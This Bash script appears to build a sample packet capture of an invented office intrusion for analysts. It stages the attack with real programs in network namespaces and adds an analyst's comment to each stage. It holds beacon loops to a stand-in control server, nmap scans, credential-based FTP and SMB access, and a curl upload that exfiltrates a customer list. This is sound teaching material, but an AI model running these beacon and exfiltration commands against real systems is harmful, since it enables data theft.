#!/bin/bash
# The story in samples/incident.pcapng, played by real programs in about six minutes. Called by make.sh.
set -euo pipefail
NS=wsi
WORK=$(mktemp -d)
chmod 755 "$WORK"
OUT=$ROOT/samples/incident.pcapng
source "$HERE/net.sh"
source "$HERE/servers.sh"
trap 'remove_namespaces; rm -rf "$WORK"' EXIT
remove_namespaces

SITE=www.oakleaf-news.test
CONTROL=203.0.113.66
RANDOM=4711

python3 "$HERE/content.py" "$WORK/content"
make_certificates $SITE

# The office: a switch with its mirror port, and the gateway. Outside: three servers behind a wire that adds delay.
ns switch gateway ws15 ws21 files intranet printer wan site fonts control
no_ipv6 switch
no_ipv6 wan
ip -n $NS-switch link add span0 type bridge mcast_snooping 0
ip -n $NS-switch link set span0 up
ip -n $NS-wan link add wan0 type bridge mcast_snooping 0
ip -n $NS-wan link set wan0 up
host() { # NAME LAST-BYTE [ADDRESS]
  link "$1" eth0 "02:00:5e:14:00:$(printf %02x "$2")" switch "$1" "02:00:5e:14:ff:$(printf %02x "$2")"
  ip -n $NS-switch link set "$1" master span0
  [ $# -lt 3 ] || { addr "$1" eth0 "$3/24"; ip -n $NS-"$1" route add default via 10.20.0.1; resolver "$1" 10.20.0.1; }
}
outside() { # NAME LAST-BYTE ADDRESS
  link "$1" eth0 "02:00:5e:c6:00:$(printf %02x "$2")" wan "$1" "02:00:5e:c6:ff:$(printf %02x "$2")"
  ip -n $NS-wan link set "$1" master wan0
  addr "$1" eth0 "$3/24"
  ip -n $NS-"$1" route add default via "${3%.*}.1"
}
link gateway eth1 02:00:5e:c6:00:01 wan uplink 02:00:5e:c6:ff:01
link wan inner 02:00:5e:c6:ff:02 wan inner-port 02:00:5e:c6:ff:03
ip -n $NS-wan link set inner-port master wan0
addr gateway eth1 198.51.100.1/24
addr gateway eth1 203.0.113.1/24
addr gateway eth1 2001:db8:100::1/64 nodad
outside site 10 198.51.100.10
outside fonts 20 198.51.100.20
outside control 66 $CONTROL
addr site eth0 2001:db8:100::10/64 nodad
ip -n $NS-site -6 route add default via 2001:db8:100::1
ip netns exec $NS-wan python3 "$HERE/wire.py" uplink inner --delay 11 &
host gateway 1
addr gateway eth0 10.20.0.1/24
addr gateway eth0 2001:db8:20::1/64 nodad
run gateway sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1
host files 5 10.20.0.5
host intranet 7 10.20.0.7
host printer 9 10.20.0.9
resolver ws15 10.20.0.1
resolver ws21 10.20.0.1

add_account files s.berg Harbour-2024
cp "$WORK"/content/files/*.* "$WORK/files/home/"
chown -R 4242:4242 "$WORK/files/home"
serve_web site "$WORK/content/web" "$WORK/tls/web.pem" "$WORK/tls/web.key"
serve_web fonts "$WORK/content/delivery" "$WORK/tls/self.pem" "$WORK/tls/self.key"
serve_web intranet "$WORK/content/web" "$WORK/tls/self.pem" "$WORK/tls/self.key"
serve_ftp files
serve_smb files s.berg Harbour-2024
serve_ntp site
run control python3 "$HERE/control.py" "$WORK/tls/self.pem" "$WORK/tls/self.key" &

cat > "$WORK/gateway/dnsmasq.conf" <<CONF
interface=eth0
bind-interfaces
no-resolv
no-hosts
local=/test/
domain=pinebrook.test
dhcp-range=10.20.0.100,10.20.0.120,255.255.255.0,2h
dhcp-host=02:00:5e:14:00:0f,10.20.0.15,ws15
dhcp-host=02:00:5e:14:00:15,10.20.0.21,ws21
dhcp-range=2001:db8:20::,ra-only,64
enable-ra
dhcp-option=option:ntp-server,198.51.100.10
dhcp-leasefile=$WORK/gateway/leases
enable-tftp
tftp-root=$WORK/content/tftp
host-record=gw.pinebrook.test,10.20.0.1
host-record=files.pinebrook.test,10.20.0.5
host-record=intranet.pinebrook.test,10.20.0.7
host-record=printer.pinebrook.test,10.20.0.9
host-record=mail.pinebrook.test,10.20.0.8
mx-host=pinebrook.test,mail.pinebrook.test,10
txt-record=pinebrook.test,v=spf1 mx -all
srv-host=_ldap._tcp.pinebrook.test,files.pinebrook.test,389
host-record=$SITE,198.51.100.10,2001:db8:100::10
cname=static.oakleaf-news.test,$SITE
host-record=time.oakleaf-news.test,198.51.100.10
host-record=cdn.free-fonts.test,198.51.100.20
host-record=status.metrics-sync.test,$CONTROL
CONF
run gateway dnsmasq -k -u root -C "$WORK/gateway/dnsmasq.conf" -x "$WORK/gateway/dnsmasq.pid" 2>/dev/null &
sleep 3

# dumpcap gives a name and a description only to what it reads from a pipe.
mkfifo "$WORK/pipe"
dumpcap -q -i "$WORK/pipe" --ifname span0 --ifdescr 'Pinebrook office switch, mirror port' -w "$WORK/raw.pcapng" \
  2>/dev/null &
DUMPCAP=$!
start_capture switch span0 "$WORK/pipe"

START=$SECONDS
at() { local left=$((START + $1 - SECONDS)); [ $left -le 0 ] || sleep $left; }
ws15() { run ws15 "$@" >/dev/null 2>&1 || true; }
ws21() { run ws21 "$@" >/dev/null 2>&1 || true; }
AGENT='Mozilla/5.0 (X11; Linux x86_64) Demo/1.0'
browse() { local who=$1; shift; $who curl -s --compressed -A "$AGENT" --cacert "$WORK/tls/ca.pem" "$@"; }
pages() { local path; for path in "${@:2}"; do echo "http://$1/$path"; done; }

# A working day: the hosts come up, look for each other, browse.
serve_mdns printer printer _ipp._tcp 631
run printer python3 "$HERE/lan.py" ssdp-device 10.20.0.9 &
host ws15 15
host ws21 21
dhcp_lease ws15 eth0 ws15 || true
dhcp_lease ws21 eth0 ws21 || true
serve_mdns ws15 ws15
ws15 python3 "$HERE/lan.py" mdns 10.20.0.15 _ipp._tcp.local PTR
ws15 python3 "$HERE/lan.py" ssdp-search 10.20.0.15
ws15 ping -c 2 10.20.0.1
ws15 ping -6 -c 2 2001:db8:100::10
ws15 ping -c 1 -W 1 -t 1 198.51.100.10
for query in 'MX pinebrook.test' 'TXT pinebrook.test' 'SRV _ldap._tcp.pinebrook.test' 'A wpad.pinebrook.test' \
  'A static.oakleaf-news.test' 'PTR 5.0.20.10.in-addr.arpa'; do
  ws15 dig +tries=1 ${query#* } ${query% *}
done
ws15 dig +tcp MX pinebrook.test
at 16
browse ws15 -4 $(pages $SITE index.html site.css site.js img/logo.svg products.html img/tool{1,2,3,4}.png \
  data/prices.json)
browse ws15 -4 -L $(pages $SITE old/catalogue nothing.html)
browse ws15 -4 -I http://$SITE/about.html
browse ws15 -6 $(pages $SITE about.html img/tool5.png)
browse ws15 -4 -d 'name=Sina&newsletter=yes' http://$SITE/login
browse ws15 -4 --tlsv1.3 https://$SITE/products.html https://$SITE/img/tool6.png
browse ws15 -4 --tls-max 1.2 https://$SITE/about.html
ask_time ws15 198.51.100.10 &
browse ws21 -4 $(pages $SITE index.html site.css about.html)
ws15 bash -c "openssl s_client -connect 10.20.0.7:443 -servername intranet.pinebrook.test </dev/null"

# Delivery, and the program's first sign of life.
at 38
browse ws15 -e http://cdn.free-fonts.test/ $(pages cdn.free-fonts.test index.html images/banner.png)
at 43
ws15 dig +tries=1 status.metrics-sync.test
beacon() {
  local n
  for n in $(seq 22); do
    ws15 curl -s -A 'Mozilla/4.0 (compatible; Sync 1.1)' "http://$CONTROL:8080/api/check?id=ws15-7f3a&n=$n"
    [ "$n" = 22 ] || sleep $((12 + RANDOM % 6)).$((RANDOM % 10))
  done
}
tls_beacon() {
  local n
  for n in $(seq 10); do
    ws15 curl -s -k -A 'Mozilla/4.0 (compatible; Sync 1.1)' https://$CONTROL/
    [ "$n" = 10 ] || sleep $((29 + RANDOM % 3)).$((RANDOM % 10))
  done
}
beacon & BEACON=$!
tls_beacon & TLS_BEACON=$!

# Ordinary work goes on at the other desk.
office() {
  local n
  for n in 1 2 3 4; do
    sleep $((20 + n * 13))
    browse ws21 -4 $(pages $SITE index.html data/prices.json nothing-$n.html)
    browse ws21 -4 https://$SITE/about.html
    [ $n != 2 ] || ask_time ws21 198.51.100.10
  done
}
office & OFFICE=$!

at 80
ws15 nmap -n -sS -T4 --top-ports 20 10.20.0.0/28
ws15 nmap -n -Pn -sS -T4 -p 1-300 10.20.0.5
at 125
FTP=ftp://files.pinebrook.test
ws15 curl -s -u s.berg:Harbour-2023 $FTP/
ws15 curl -s -u s.berg:Harbour-2024 $FTP/ $FTP/customers.csv -o "$WORK/got"
ws15 curl -s -u s.berg:Harbour-2024 -P - -T "$WORK/content/local/report-draft.txt" $FTP/
at 150
browse ws15 -u s.berg:Quayside-77 http://intranet.pinebrook.test/reports/
browse ws15 -d 'user=s.berg&password=Quayside-77' http://intranet.pinebrook.test/login
at 175
ws15 smbclient //files.pinebrook.test/projects -U s.berg%Harbour-2024 -m SMB3 \
  -c "ls; get plan.txt $WORK/got; cd notes; get meeting.txt $WORK/got; put $WORK/content/web/site.js helper.js; ls"
at 205
ws15 tftp -m octet 10.20.0.1 -c get switch-config.txt "$WORK/got"
at 240
ws15 curl -s -A 'Mozilla/4.0 (compatible; Sync 1.1)' -H 'Content-Type: application/octet-stream' -H 'Expect:' \
  --data-binary "@$WORK/content/local/all-customers.csv" "http://$CONTROL:8080/api/upload?id=ws15-7f3a"
wait $BEACON $TLS_BEACON $OFFICE
stop_capture
wait $DUMPCAP || true

# Names for the addresses, and the analyst's comments: each on the first packet that its filter finds.
cat > "$WORK/hosts" <<'HOSTS'
10.20.0.1 gw.pinebrook.test
10.20.0.5 files.pinebrook.test
10.20.0.7 intranet.pinebrook.test
10.20.0.9 printer.pinebrook.test
10.20.0.15 ws15.pinebrook.test
10.20.0.21 ws21.pinebrook.test
198.51.100.10 www.oakleaf-news.test
198.51.100.20 cdn.free-fonts.test
203.0.113.66 status.metrics-sync.test
HOSTS
notes=()
note() { # FILTER COMMENT
  local number
  number=$(tshark -r "$WORK/raw.pcapng" -Y "$1" -T fields -e frame.number 2>/dev/null | head -1)
  [ -n "$number" ] || { echo "incident: no packet for: $1" >&2; exit 1; }
  notes+=(-a "$number:$2")
}
note 'dhcp.option.dhcp == 5 && dhcp.ip.your == 10.20.0.15' 'ws15 gets 10.20.0.15. This is the machine of S. Berg.'
note 'http.request.uri == "/images/banner.png"' 'The banner is not a picture: look at the first bytes of the answer.'
note "http.request.uri contains \"/api/check\" && ip.dst == $CONTROL" 'First call home. Repeats about every 15 seconds.'
note 'tcp.flags == 2 && ip.src == 10.20.0.15 && tcp.window_size_value == 1024' \
  'Port scan starts here; window 1024 is typical of nmap.'
note 'ftp.request.command == "PASS" && ftp.request.arg == "Harbour-2024"' 'Password in clear text, and it works.'
note 'smb2.cmd == 5 && smb2.filename contains "helper.js"' 'A file is placed on the share.'
note 'http.request.uri contains "/api/upload"' 'Exfiltration: the whole customer list leaves the office.'
editcap "${notes[@]}" \
  --capture-comment 'Demonstration incident at Pinebrook (invented): staged with real programs, no real data.' \
  "$WORK/raw.pcapng" "$WORK/commented.pcapng"
# tshark writes a name only after it has printed it, hence -V.
tshark -r "$WORK/commented.pcapng" -V -N n -W n -H "$WORK/hosts" -w "$OUT" >/dev/null 2>&1
chmod 644 "$OUT"
ls -l "$OUT"
